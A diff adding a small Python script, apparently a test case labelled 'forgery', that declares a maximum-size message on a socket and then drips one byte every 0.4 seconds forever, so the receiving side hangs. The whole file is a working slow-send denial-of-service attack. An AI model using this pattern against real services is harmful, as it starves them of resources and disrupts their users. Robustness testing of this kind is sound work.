@@ -1,0 +1,17 @@
+"""Announces a message of the largest size and sends it byte by byte, so that somebody waits for ever."""
+
+# on: q8
+# kind: forgery
+# stock: not run (would talk to the kernel's own sockets)
+
+import os
+import socket
+import struct
+import sys
+import time
+
+connection = socket.socket(fileno=os.dup(int(sys.argv[-2])))
+connection.sendall(struct.pack(">II", 2**24, 0))
+while True:
+    connection.sendall(b" ")
+    time.sleep(0.4)
